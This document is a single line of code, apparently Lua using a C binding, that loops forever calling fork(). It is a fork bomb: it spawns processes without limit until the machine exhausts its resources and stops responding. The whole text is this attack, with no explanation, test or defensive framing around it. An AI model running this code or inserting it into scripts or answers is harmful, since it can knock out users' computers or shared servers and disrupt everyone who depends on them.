while true do C.fork() end
